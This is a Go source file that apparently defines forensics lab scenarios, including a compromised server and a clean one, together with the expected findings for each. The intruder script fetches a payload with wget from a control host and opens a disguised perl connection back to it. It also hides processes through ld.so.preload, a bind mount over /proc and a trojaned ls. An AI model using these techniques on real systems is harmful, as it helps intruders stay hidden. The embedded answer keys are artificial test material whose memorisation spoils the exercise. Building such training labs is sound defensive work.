package scenarios

import (
	"fmt"
	"strings"

	"telltale/lab"
)

// mailer is the stand-in of a program that sends spam: it greets mail servers and keeps the connections.
const mailer = `#!/usr/bin/perl
# practice stand-in %s: greets sinks and waits
use IO::Socket;
my @s = map { IO::Socket::INET->new("$_:25") } @ARGV;
for (@s) { print $_ "HELO practice\r\n" if $_ }
sleep 100000;
`

// stillRunning is looked at while it runs: what the intruder started is still there, and hidden in all the ways that need no kernel module.
func stillRunning() *lab.Scenario {
	return &lab.Scenario{
		Name: "still-running", Title: "the intruder's programs run, and are hidden", Question: "The provider says that this server sends spam. It still runs. What runs, as whom, how did it come, and which of the server's programs lie?",
		Live: true,
		Setup: func(p *lab.Play) lab.Setup {
			s := server(p, lab.Web, lab.Mail)
			s.Accounts[2].Sudo = true
			return s
		},
		Story: func(p *lab.Play) error {
			f, who := &p.Intruder, p.Staff[1]
			return steps(func() error { return owner(p, who) }, func() error { return life(p, 2) }, func() error { return owner(p, who) },
				func() error { return hiddenVisit(p, f, who) },
				func() error { return life(p, 1) },
			)
		},
	}
}

func hiddenVisit(p *lab.Play, f *lab.Foe, who lab.Person) error {
	world := p.Stage.(lab.Running)
	var servers []string
	for _, v := range append([]lab.Person{}, p.Visitors...)[:min(4, len(p.Visitors))] {
		if err := world.Catch(v.Address, 25); err != nil {
			return err
		}
		servers = append(servers, v.Address.String())
	}
	control := f.Addresses[0]
	if err := steps(func() error { return world.Catch(control, 4444) }, func() error { return p.Stage.Serve(control, "/"+f.Program, []byte(fmt.Sprintf(mailer, f.Marks))) }); err != nil {
		return err
	}
	script, name, library := f.Dir+"/"+f.Program, "/dev/shm/."+f.Marks[:4], "/usr/local/lib/lib"+f.Marks[:5]+".so"
	lines := append(looks(p), "mkdir -p "+f.Dir, "wget -q http://"+control.String()+"/"+f.Program+" -O "+script,
		"nohup perl "+script+" "+strings.Join(servers, " ")+" >/dev/null 2>&1 &",
		"sudo -i", "unset HISTFILE",
		"cp /bin/sleep "+name, "nohup "+name+" 100000 >/dev/null 2>&1 & hid=$!", "sleep 1; rm -f "+name,
		`nohup perl -MIO::Socket -e '$0="[kworker/u4:3]"; $s=IO::Socket::INET->new("`+control.String()+`:4444"); sleep 100000' >/dev/null 2>&1 &`,
		"cp /lib/x86_64-linux-gnu/libdl.so.2 "+library, "echo "+library+" > /etc/ld.so.preload",
		"mkdir -p /var/tmp/."+f.Marks[1:5], "mount --bind /var/tmp/."+f.Marks[1:5]+" /proc/$hid",
		"mv /usr/bin/ls /usr/bin/."+f.Marks[:4], `printf '#!/bin/sh\n/usr/bin/.`+f.Marks[:4]+` "$@" | grep -v `+f.Marks[:4]+`\n' > /usr/bin/ls`, "chmod 755 /usr/bin/ls", "exit")
	if err := p.Visit(lab.Intruder, "logs in with a known password, becomes root and starts what it hides", lab.Login{From: control, Account: who.Account, Password: who.Password}, lines...); err != nil {
		return err
	}
	status(p, "compromised")
	p.Entered("ssh-password-known", who.Account, "known password", []string{"auth.log", "wtmp"}, control)
	p.Root(true)
	p.Left("ld-preload", "/etc/ld.so.preload", "every user")
	p.Altered("package-file-changed", "/usr/bin/ls")
	x := &p.Truth.Expect
	x.Running = []lab.RunningTruth{{Exe: name, User: "root", Deleted: true}, {Exe: "/usr/bin/perl", User: "root"}, {Exe: "/usr/bin/perl", User: who.Account}}
	x.Hidden = []string{"process"}
	x.Impact = []lab.ImpactTruth{{What: "spam", By: who.Account}}
	x.May = append(x.May, library, script, "/usr/bin/."+f.Marks[:4])
	return nil
}

// quietLive is a busy server with nobody in it, looked at while it runs.
func quietLive() *lab.Scenario {
	return &lab.Scenario{
		Name: "quiet-running", Title: "a busy server, looked at while it runs", Question: "The administrator is afraid that somebody got in. The server runs. Did anybody?",
		Live:  true,
		Setup: func(p *lab.Play) lab.Setup { return server(p, lab.Web, lab.Mail, lab.FTP, lab.Samba) },
		Story: func(p *lab.Play) error {
			p.Truth.Expect.StatusAny = []string{"clean", "attacked", "cannot-tell"}
			return life(p, 2)
		},
	}
}
